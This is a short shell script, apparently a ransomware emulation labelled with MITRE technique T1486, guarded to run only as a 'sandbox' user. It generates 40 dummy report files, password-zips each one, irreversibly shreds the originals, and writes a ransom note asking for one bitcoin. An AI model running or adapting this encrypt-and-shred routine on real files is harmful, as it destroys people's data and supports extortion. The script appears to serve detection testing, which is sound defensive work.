#!/bin/sh
# technique: T1486
# needs: zip shred
[ "$USER" = sandbox ] || { echo "only for the inside of a sandbox: shieldx run"; exit 99; }

mkdir -p docs
for i in $(seq 40); do seq 1 900 | sed "s/^/row $i /" > "docs/report-$i.txt"; done
for f in docs/*; do zip -q -P hunter2 "$f.zip" "$f" && shred -u "$f"; done; echo 'pay 1 bitcoin for the password' > docs/RECOVER.txt
